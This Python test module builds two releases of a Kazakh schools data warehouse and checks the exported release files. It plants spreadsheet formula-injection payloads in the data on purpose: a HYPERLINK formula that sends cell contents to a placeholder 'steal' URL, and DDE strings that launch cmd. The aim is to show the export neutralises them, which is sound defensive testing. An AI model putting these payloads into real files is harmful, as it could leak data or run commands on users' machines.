"""Two real releases in a fresh warehouse, exported: what the release-file tests look at.

Release 1: the real BNS schools table through dbt, the GX gate and the swap. Release 2: rebuilt,
then changed in ``candidate`` before the gate, as a bad or new delivery would change it:

* Almaty city's 2022/23 school count +7, one Shymkent row removed, a 2023/24 row added;
* Shymkent's English name replaced by a spreadsheet formula (in both tables), to prove the files
  neutralise it;
* a new table ``zz_test_spending`` (negative tenge, a ratio, formula-like text, a synthetic row)
  that no code names: it is described only by an extra model in a copy of the dbt manifest, the way
  another engineer's new published model would be.
"""

from __future__ import annotations

import contextlib
import json
from dataclasses import dataclass
from pathlib import Path

import psycopg
import pytest

from tests.conftest import SAMPLES, admin_url, drop_database, new_database

SCHOOLS = SAMPLES / "bns" / "number_of_schools_by_region_2000-2023_ru.xlsx"
FORMULA_NAME = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Shymkent")'
FORMULA_TEXTS = ["@SUM(1+1)*cmd|' /C calc'!A0", "\tcmd", "-2+3+cmd|' /C calc'!A0", "+1+1"]
EXTRA_TABLE = "zz_test_spending"
CITY_CHANGE = 7
# only the two published tables of the skeleton and their parents (and only tests on those): other
# areas' models, finished or not, stay out of these tests
BUILD_PUBLISHED = ["build", "--select", "+pub_school_counts", "+pub_territories", "--indirect-selection", "cautious"]

SECOND_RELEASE_SQL = [
    f"update candidate.school_counts set schools_count = schools_count + {CITY_CHANGE} where kato_code = '750000000' "
    "and academic_year = '2022/23' and population_type = 'total' and territory_basis = 'as_published'",
    "delete from candidate.school_counts where kato_code = '790000000' and academic_year = '2000/01' "
    "and population_type = 'urban' and territory_basis = 'as_published'",
    "insert into candidate.school_counts select kato_code, territory_name_kk, territory_name_ru, territory_name_en, "
    "'2023/24', population_type, territory_basis, schools_count + 1, value_status, source_name, source_reference, "
    "is_synthetic from candidate.school_counts where kato_code = '750000000' and academic_year = '2022/23' "
    "and population_type = 'total' and territory_basis = 'as_published'",
    "update candidate.territories set name_en = %(formula)s where kato_code = '790000000'",
    "update candidate.school_counts set territory_name_en = %(formula)s where kato_code = '790000000'",
    f"create table candidate.{EXTRA_TABLE} (kato_code text not null, year integer not null, amount_kzt numeric(18,2), "
    "change_share numeric(6,4), note text, source_name text, is_synthetic boolean not null)",
    f"insert into candidate.{EXTRA_TABLE} values "
    "('750000000', 2022, 1234567.50, 0.1250, %(t0)s, 'Test ledger', false), "
    "('750000000', 2023, -1500.25, -0.0310, %(t1)s, 'Test ledger', false), "
    "('190000000', 2022, 394000000000.00, 0.2475, %(t2)s, 'Test ledger', false), "
    "('190000000', 2023, 2500.00, null, %(t3)s, 'Test ledger', true)",
]


def extra_manifest_node(manifest: dict) -> dict:
    """The model another engineer would add to models/published (only in the manifest copy)."""
    database = next(iter(manifest["nodes"].values()))["database"]
    col = lambda name, dtype, kk, ru, en, unit=None, desc="", defs=(): {  # noqa: E731
        "name": name,
        "description": desc,
        "data_type": dtype,
        "meta": {
            "label_kk": kk,
            "label_ru": ru,
            "label_en": en,
            **({"unit": unit} if unit else {}),
            **dict(zip(("definition_kk", "definition_ru"), defs)),
        },
    }
    meta = {
        "grain": ["kato_code", "year"],
        "label_kk": "Сынақ шығындары",
        "label_ru": "Тестовые расходы",
        "label_en": "Test spending",
        "source": "Test ledger (fixture)",
        "description_kk": "Аумақ пен жыл бойынша шығындар (сынақ кестесі).",
        "description_ru": "Расходы по территориям и годам (тестовая таблица).",
        "portal": {
            "charts": [
                {"key": "test_spending", "kind": "line", "x": "year", "y": "amount_kzt", "series": "kato_code",
                 "title_kk": "Сынақ шығындары", "title_ru": "Тестовые расходы", "title_en": "Test spending"}
            ]
        },
    }  # fmt: skip
    return {
        "database": database,
        "schema": "candidate",
        "name": "pub_zz_test_spending",
        "resource_type": "model",
        "package_name": manifest["metadata"]["project_name"],
        "path": "published/pub_zz_test_spending.sql",
        "original_file_path": "models/published/pub_zz_test_spending.sql",
        "unique_id": "model.edu_wh.pub_zz_test_spending",
        "fqn": ["edu_wh", "published", "pub_zz_test_spending"],
        "alias": EXTRA_TABLE,
        "description": "Spending by territory and year (a test table). Grain: kato_code × year.",
        "meta": meta,
        "config": {"meta": meta, "alias": EXTRA_TABLE, "schema": "candidate"},
        "depends_on": {"nodes": []},
        "columns": {
            c["name"]: c
            for c in [
                # kk / ru definitions: from the model's meta, else from publication/catalogue by column name
                col("kato_code", "text", "ӘАОЖ коды", "Код КАТО", "KATO code", desc="KATO code of the territory."),
                col("year", "integer", "Жыл", "Год", "Year", desc="Calendar year."),
                col(
                    "amount_kzt",
                    "numeric(18,2)",
                    "Сома",
                    "Сумма",
                    "Amount",
                    "kzt",
                    "Spent, in tenge.",
                    ("Жұмсалғаны, теңге.", "Потрачено, тенге."),
                ),
                col(
                    "change_share",
                    "numeric(6,4)",
                    "Өзгеріс үлесі",
                    "Доля изменения",
                    "Change",
                    "ratio",
                    "Change on the previous year.",
                    ("Алдыңғы жылға қарағандағы өзгеріс.", "Изменение к прошлому году."),
                ),
                col(
                    "note", "text", "Ескертпе", "Примечание", "Note", desc="A note.", defs=("Ескертпе.", "Примечание.")
                ),
                col("source_name", "text", "Дереккөз", "Источник", "Source", desc="Publisher of the figures."),
                col(
                    "is_synthetic",
                    "boolean",
                    "Синтетикалық дерек",
                    "Синтетические данные",
                    "Synthetic data",
                    desc="Generated, not published.",
                ),
            ]
        },
    }


@dataclass
class Scenario:
    url: str
    releases_dir: Path
    first: int
    second: int
    manifest_dir: Path

    def folder(self, release_id: int) -> Path:
        return self.releases_dir / f"r{release_id:06d}"


def run_gate_on_candidate():
    """The real gate, with the suites of the tables the candidate has (other areas' suites need their data)."""
    from edu_wh.warehouse import connect
    from expectations.framework import discover_suites
    from expectations.gate import run_gate

    with connect("transformer", autocommit=True) as conn:
        tables = {r[0] for r in conn.execute("select tablename from pg_tables where schemaname = 'candidate'")}
    return run_gate("candidate", suites=[s for s in discover_suites("published") if s.table in tables])


def build_and_publish(url: str, statements: list[str] = (), params: dict | None = None, build=BUILD_PUBLISHED):
    from edu_wh.dbt_runner import dbt_command
    from orchestration.tasks import drop_candidate
    from publication.swap import publish

    drop_candidate()
    dbt_command(list(build))
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("set role edu_wh_transformer")  # as dbt would: the swap must be able to lock them
        for statement in statements:
            conn.execute(statement, params if "%(" in statement else None)
    run_gate_on_candidate()
    return publish()


def augmented_manifest(target: Path, source: Path) -> Path:
    manifest = json.loads(source.read_text(encoding="utf-8"))
    node = extra_manifest_node(manifest)
    manifest["nodes"][node["unique_id"]] = node
    target.mkdir(parents=True, exist_ok=True)
    (target / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return target


@contextlib.contextmanager
def two_releases(template_db: str, tmp: Path):
    """Builds the scenario in its own database; yields it with the environment pointing at it."""
    from edu_wh.config import settings
    from ingest.bns_dynamic import SOURCE as BNS
    from ingest.loader import load_file
    from publication.release_files import export_release

    name = new_database(template_db, prefix="release")
    env = {
        "EDU_WH_DATABASE_URL": admin_url(name),
        "EDU_WH_LANDING_DIR": str(tmp / "landing"),
        "EDU_WH_RELEASES_DIR": str(tmp / "releases"),
    }
    try:
        with pytest.MonkeyPatch.context() as mp:
            for key, value in env.items():
                mp.setenv(key, value)
            load_file(BNS, SCHOOLS)
            first = build_and_publish(env["EDU_WH_DATABASE_URL"]).release_id
            export_release()
            params = {"formula": FORMULA_NAME, **{f"t{i}": t for i, t in enumerate(FORMULA_TEXTS)}}
            second = build_and_publish(env["EDU_WH_DATABASE_URL"], SECOND_RELEASE_SQL, params).release_id
            manifest_dir = augmented_manifest(tmp / "augmented-target", settings().dbt_target_dir / "manifest.json")
            with pytest.MonkeyPatch.context() as manifest_mp:
                manifest_mp.setenv("EDU_WH_DBT_TARGET_PATH", str(manifest_dir))
                export_release()
            yield Scenario(env["EDU_WH_DATABASE_URL"], tmp / "releases", first, second, manifest_dir)
    finally:
        drop_database(name)
